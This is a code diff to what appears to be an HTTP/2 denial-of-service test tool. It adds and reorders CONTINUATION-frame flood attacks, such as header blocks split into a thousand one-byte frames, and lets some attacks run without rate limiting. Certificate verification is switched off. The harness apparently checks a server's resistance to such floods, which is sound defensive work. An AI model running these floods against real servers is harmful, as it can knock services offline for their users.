@@ -60,6 +60,9 @@ ATTACKS = {
         [frame(HEADERS, 0, 1, UNFINISHED)], repeat(frame(CONTINUATION, 0, 1, b"y" * 16384), 1)
     ),
     "header block in small frames": lambda: itertools.chain(
+        [frame(HEADERS, 0, 1, UNFINISHED)], repeat(frame(CONTINUATION, 0, 1, b"y"), 1000)
+    ),
+    "header block, byte by byte": lambda: itertools.chain(
         [frame(HEADERS, 0, 1, call_fields(HEALTH) + b"\0\1a" + integer(30_000))],
         repeat(frame(CONTINUATION, 0, 1, b"y")),
     ),
@@ -91,6 +94,9 @@ TLS.check_hostname = False
 TLS.verify_mode = ssl.CERT_NONE
 TLS.set_alpn_protocols(["h2"])
 
+# The server ends these before they cost anything. Without that they are slow, because they stop the server.
+AS_FAST_AS_POSSIBLE = {"header block", "header block in small frames"}
+
 
 class Attacker(threading.Thread):
     """One connection after the other."""
@@ -118,7 +124,8 @@ class Attacker(threading.Thread):
             for bytes_ in ATTACKS[self.attack]():
                 connection.sendall(bytes_)
                 self.sent += len(bytes_)
-                time.sleep(len(bytes_) / BYTES_A_SECOND)
+                if self.attack not in AS_FAST_AS_POSSIBLE:
+                    time.sleep(len(bytes_) / BYTES_A_SECOND)
                 if time.monotonic() > self.end:
                     return
 
